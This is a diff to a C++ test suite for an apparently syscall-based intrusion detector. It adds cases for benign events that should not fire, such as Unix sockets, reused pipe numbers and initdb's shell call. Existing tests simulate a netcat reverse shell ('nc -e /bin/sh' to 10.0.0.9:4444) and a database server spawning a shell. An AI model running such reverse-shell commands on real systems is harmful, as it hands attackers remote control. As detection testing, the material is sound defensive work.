@@ -66,6 +66,7 @@ TEST_F(IndicatorTest, BashReverseShellOverDevTcp) {
 TEST_F(IndicatorTest, NetcatExecingAShellOnItsSocket) {
   exec(20, 1, "/bin/nc.traditional", {"nc", "-e", "/bin/sh", "10.0.0.9", "4444"});
   observe(20, 1, "nc", "/bin/nc.traditional", SYS_socket, {int64_t{AF_INET}, int64_t{SOCK_STREAM}, int64_t{0}}, 3);
+  observe(20, 1, "nc", "/bin/nc.traditional", SYS_connect, {int64_t{3}, std::string("10.0.0.9:4444"), int64_t{16}}, -115);
   for (uint64_t fd : {0, 1, 2}) observe(20, 1, "nc", "/bin/nc.traditional", SYS_dup2, {uint64_t{3}, fd}, fd);
   exec(20, 1, "/bin/sh", {"/bin/sh"});
   EXPECT_EQ(rules(), (std::vector<std::string>{"downloader", "reverse-shell"}));
@@ -74,7 +75,18 @@ TEST_F(IndicatorTest, NetcatExecingAShellOnItsSocket) {
 TEST_F(IndicatorTest, AUnixSocketOnStdioIsNotAReverseShell) {
   exec(30, 1, "/bin/sh", {"sh"});
   observe(30, 1, "sh", "/bin/sh", SYS_socket, {int64_t{AF_UNIX}, int64_t{SOCK_STREAM}, int64_t{0}}, 3);
+  observe(30, 1, "sh", "/bin/sh", SYS_connect, {int64_t{3}, std::string("/run/x.sock"), int64_t{16}}, 0);
   observe(30, 1, "sh", "/bin/sh", SYS_dup2, {uint64_t{3}, uint64_t{0}}, 0);
+  EXPECT_TRUE(anomalies_.empty());
+}
+
+// A threaded server closes an accepted connection while another thread spawns a child whose
+// pipe gets the same number: that is no socket on the child's stdout.
+TEST_F(IndicatorTest, APipeReusingAnAcceptedSocketsNumberIsNotAReverseShell) {
+  exec(35, 1, "/usr/bin/python3", {"python3", "app.py"});
+  observe(35, 1, "python3", "/usr/bin/python3", SYS_accept4, {int64_t{3}, std::string("127.0.0.1:5555"), uint64_t{0}, int64_t{0}}, 7);
+  observe(36, 35, "python3", "/usr/bin/python3", SYS_dup2, {uint64_t{7}, uint64_t{1}}, 1);  // the child: a pipe
+  exec(36, 35, "/bin/sh", {"/bin/sh", "-c", "grep x y"});
   EXPECT_TRUE(anomalies_.empty());
 }
 
@@ -95,7 +107,12 @@ TEST_F(IndicatorTest, RedisConfigSetDirWritesAuthorizedKeys) {
 }
 
 TEST_F(IndicatorTest, DatabaseServerStartingAShell) {
+  // initdb's bootstrap postgres runs `sh -c "locale -a"`: it serves nothing, no indicator.
+  exec(45, 1, "/usr/lib/postgresql/15/bin/postgres", {"postgres", "--boot"});
+  exec(46, 45, "/bin/sh", {"sh", "-c", "locale -a"});
+  EXPECT_TRUE(anomalies_.empty());
   exec(50, 1, "/usr/lib/postgresql/15/bin/postgres", {"/usr/lib/postgresql/15/bin/postgres", "-D", "/data"});
+  observe(50, 1, "postgres", "/usr/lib/postgresql/15/bin/postgres", SYS_bind, {int64_t{3}, std::string("127.0.0.1:5432"), int64_t{16}}, 0);
   observe(51, 50, "postgres", "/usr/lib/postgresql/15/bin/postgres", SYS_read, {}, 0);  // a backend (fork)
   exec(52, 51, "/bin/sh", {"sh", "-c", "id > /tmp/x"});
   ASSERT_EQ(rules(), std::vector<std::string>{"server-shell"});
